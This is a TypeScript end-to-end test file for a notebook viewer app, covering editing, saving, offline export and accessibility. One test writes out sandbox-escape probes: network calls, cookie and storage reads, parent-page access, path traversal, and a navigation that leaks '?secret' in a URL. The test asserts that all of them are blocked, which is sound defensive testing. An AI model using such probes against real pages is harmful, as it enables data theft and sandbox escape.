import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import type { Browser, Frame, FrameLocator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { viewerFolder } from '../../../cli/viewer.ts';
import type { RunningServer } from '../../../server/startServer.ts';
import { launchBrowser } from '../../browser.ts';
import { smallHouse } from '../../server/serverUnderTest.ts';
import { LIVE, notebookText } from './notebookText.ts';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const { at, remove, start } = smallHouse();
let server: RunningServer;
let browser: Browser;
let page: Page;
let frame: FrameLocator;
const complaints: string[] = [];
const foreign: string[] = [];

beforeAll(async () => {
  mkdirSync(at('notebooks'));
  [server, browser] = await Promise.all([
    start({ notebooksFolder: at('notebooks'), viewerFolder }),
    launchBrowser(),
  ]);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  remove();
});
beforeEach(async () => {
  complaints.length = 0;
  foreign.length = 0;
  page = await browser.newPage({ viewport: { width: 1440, height: 900 }, locale: 'en-GB' });
  page.setDefaultTimeout(20_000);
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  page.context().on('request', (request) => {
    if (!request.url().startsWith(server.address)) foreign.push(request.url());
  });
  frame = page.frameLocator('iframe');
});
afterEach(() => page.close());

async function open(text: string): Promise<void> {
  writeFileSync(at('notebooks', 'one.html'), text);
  await page.goto(`${server.address}/notebooks.html?notebook=one`);
}

const inFrame = (): Frame => page.frames().find((one) => one.url().includes('frame'))!;

describe('a notebook', () => {
  test('is listed, opened, run, and follows its slider', async () => {
    writeFileSync(at('notebooks', 'one.html'), LIVE);
    await page.goto(`${server.address}/notebooks.html`);
    await page.getByRole('link', { name: 'Live' }).click();
    await frame.getByText('2 members, until 2020, the slider at 1.').waitFor();
    await frame.getByRole('img', { name: 'Employed' }).waitFor();
    expect(await frame.getByRole('img', { name: 'Employed' }).locator('circle').count()).toBe(2);
    await frame.getByLabel('Years').first().fill('2');
    await frame.getByText('2 members, until 2021, the slider at 2.').waitFor();
    await frame.locator('circle').nth(3).waitFor();
    expect(complaints).toEqual([]);
    expect(foreign).toEqual([]);
  });

  test('is changed beside its result, says which line is wrong, and is saved', async () => {
    await open(notebookText('Old', ['const x = 20;', 'html`<p>It is ${x + 1}</p>`']));
    await frame.getByText('It is 21').waitFor();
    await page.getByRole('button', { name: 'Edit' }).click();
    await page.getByLabel('Text of cell 1').fill('const x =\n  41 +;');
    await frame.getByText('Line 2: Unexpected token').waitFor();
    await page.getByText('Cell 1, line 2: Unexpected token').waitFor();
    await page.getByLabel('Text of cell 1').fill('const x = 41;');
    await frame.getByText('It is 42').waitFor();
    await page.getByRole('button', { name: 'Add a cell after cell 2' }).click();
    await page.getByLabel('Kind').nth(2).selectOption('md');
    await page.getByLabel('Text of cell 3').fill('Twice ${x} is **${2 * x}**.');
    await frame.getByText('Twice 41 is 82.').waitFor();
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('Saved.').waitFor();
    const file = readFileSync(at('notebooks', 'one.html'), 'utf8');
    expect(file).toContain('const x = 41;');
    expect(file).toContain('<script id="3" type="text/markdown">');
    // Somebody else writes; ours must not go over it.
    writeFileSync(at('notebooks', 'one.html'), LIVE);
    await page.getByLabel('Title').fill('Ours');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('was changed elsewhere since you opened it').waitFor();
    expect(readFileSync(at('notebooks', 'one.html'), 'utf8')).toBe(LIVE);
    await page.close({ runBeforeUnload: false });
  });

  test('begins from a template', async () => {
    await page.goto(`${server.address}/notebooks.html?lang=kk`);
    await page.getByLabel('Файл атауы').fill('mine');
    await page.getByRole('button', { name: 'Бастау' }).click();
    await page.getByRole('heading', { name: 'Жаңа дәптер' }).first().waitFor();
    expect(readFileSync(at('notebooks', 'mine.html'), 'utf8')).toContain('{run.members}');
  });

  test('is given away as one page that needs no network', async () => {
    await open(LIVE);
    await frame.locator('circle').nth(1).waitFor();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Save as one page' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('one.html');
    await download.saveAs(at('given.html'));
    const asked: string[] = [];
    const reader = await browser.newPage();
    reader.on('request', (request) => asked.push(request.url()));
    reader.on('console', (message) => complaints.push(message.text()));
    reader.on('pageerror', (error) => complaints.push(error.message));
    await reader.goto(`file://${at('given.html')}`);
    await reader.locator('circle').nth(1).waitFor();
    await reader.getByLabel('Half of').first().fill('8');
    await reader.getByText('Half is 4').waitFor();
    await reader.getByLabel('Years').first().fill('3');
    await reader.getByText('holds recorded answers, and none for this choice').first().waitFor();
    await reader.getByLabel('Years').first().fill('1');
    await reader.locator('circle').nth(1).waitFor();
    expect(asked.filter((url) => !/^(data|blob):/.test(url))).toEqual([
      `file://${at('given.html')}`,
    ]);
    expect(complaints).toEqual([]);
    await reader.close();
  });
});

test('a hostile cell reaches neither network, nor page, nor storage, nor other questions', async () => {
  const attempts = {
    fetch: 'await fetch("https://example.com/")',
    own: 'await fetch("/api/runs")',
    image:
      'await new Promise((ok, no) => Object.assign(new Image(), {onload: ok, onerror: () => no(new Error("blocked")), src: "https://example.com/x.png"}))',
    script: 'await import("https://example.com/x.js")',
    socket:
      'await new Promise((ok, no) => Object.assign(new WebSocket("wss://example.com"), {onopen: ok, onerror: () => no(new Error("blocked"))}))',
    page: 'window.parent.document.title',
    top: 'window.top.location.href',
    storage: 'window.localStorage.length',
    cookie: 'document.cookie',
    jump: 'window.top.location = "https://example.com/"',
    popup: 'if (window.open("https://example.com/") === null) throw new Error("blocked")',
    call: 'new window.RTCPeerConnection()',
    callByFrame:
      'new (document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection)()',
    save: 'await aimaq.open("../notebooks/one")',
    parts: 'await aimaq.open("..")',
    huge: 'await aimaq.finished("small", {sample: 1, members: 100})',
  };
  const cells = Object.entries(attempts).map(
    ([name, code]) =>
      `let said = "";\ntry { ${code}; said = "DONE" } catch (error) { said = "refused" }\ndisplay(html\`<p class="try">${name}: \${said}</p>\`);`,
  );
  await open(
    notebookText(
      'Hostile',
      cells.map((cell) => `{\n${cell}\n}`),
    ),
  );
  await frame
    .locator('.try')
    .nth(Object.keys(attempts).length - 1)
    .waitFor();
  const said = await frame.locator('.try').allTextContents();
  expect(said.sort()).toEqual(
    Object.keys(attempts)
      .sort()
      .map((name) => `${name}: refused`),
  );
  // Leaving by itself with what it knows in the address.
  const before = page.url();
  await inFrame().evaluate(() => {
    location.href = 'https://example.com/?secret';
  });
  await page.waitForTimeout(500);
  expect(page.url()).toBe(before);
  expect(foreign.filter((url) => url.includes('secret'))).toEqual([]);
  expect(await page.getByRole('heading', { name: 'Hostile' }).count()).toBe(1);
});

describe('everyone', () => {
  async function violations(where: Page | Frame): Promise<string[]> {
    await where.evaluate(axe);
    return where.evaluate(async () => {
      const { axe } = window as unknown as { axe: typeof import('axe-core') };
      const { violations } = await axe.run(document, { iframes: false });
      return violations.map(({ id, nodes }) => `${id}: ${nodes[0].html.slice(0, 200)}`);
    });
  }

  test.each(['light', 'dark'] as const)(
    'finds the page and its frame accessible in %s',
    async (colorScheme) => {
      await page.emulateMedia({ colorScheme });
      await open(LIVE);
      await frame.locator('circle').nth(1).waitFor();
      await page.getByRole('button', { name: 'Edit' }).click();
      await page.getByLabel('Show the code').check();
      for (const width of [1440, 390]) {
        await page.setViewportSize({ width, height: 900 });
        expect(await violations(page), `page, ${width} px`).toEqual([]);
        expect(await violations(inFrame()), `frame, ${width} px`).toEqual([]);
        const wide = await page.evaluate(() => document.documentElement.scrollWidth);
        expect(wide).toBeLessThanOrEqual(width);
      }
    },
  );

  test('works it by keyboard alone', async () => {
    await open(LIVE);
    await frame.locator('circle').nth(1).waitFor();
    await page.getByRole('button', { name: 'Edit' }).focus();
    await page.keyboard.press('Enter');
    await page.getByLabel('Text of cell 1').waitFor();
    await frame.locator('input[type="range"]').last().focus();
    await page.keyboard.press('ArrowRight');
    await frame.getByText('Half is 3').waitFor();
    await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Shift+Tab');
    const focused = await inFrame().evaluate(() => document.activeElement?.getAttribute('type'));
    expect(['range', 'number']).toContain(focused);
  });
});
